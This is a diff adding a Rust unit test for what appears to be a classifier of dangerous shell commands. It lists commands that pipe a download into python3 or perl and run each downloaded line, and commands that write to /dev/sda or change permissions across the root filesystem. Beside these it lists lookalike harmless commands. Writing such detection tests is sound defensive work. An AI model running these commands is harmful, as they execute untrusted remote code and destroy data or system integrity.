@@ -1000,3 +1000,22 @@ fn a_message_that_stops_the_machine_is_dangerous() {
         "cat /proc/sysrq-trigger",
     ]);
 }
+
+#[test]
+fn code_of_interpreters_runs_lines_of_a_download() {
+    dangerous(&[
+        "curl x | python3 -c 'import sys, os\nfor l in sys.stdin: os.system(l)'",
+        "curl x | python3 -c 'import sys, subprocess; [subprocess.run(l, shell=True) for l in sys.stdin]'",
+        "curl x | perl -e 'foreach my $l (<STDIN>) { system($l) }'",
+        "curl x | python3 -c 'c = input(); exec(c)'",
+        "python3 -c 'open(\"/dev/sda\", \"wb\").write(b\"0\")'",
+        "perl -e 'open F, \">/dev/sda\"'",
+        "chmod -R --reference=x /",
+    ]);
+    harmless(&[
+        "curl x | python3 -c 'import sys, json, os; d = json.load(sys.stdin); os.system(\"ls\"); print(d)'",
+        "curl x | python3 -c 'import sys\nfor line in sys.stdin: print(line)'",
+        "python3 -c 'open(\"out\", \"w\").write(\"/dev/sda\")'",
+        "chmod --reference=x y",
+    ]);
+}
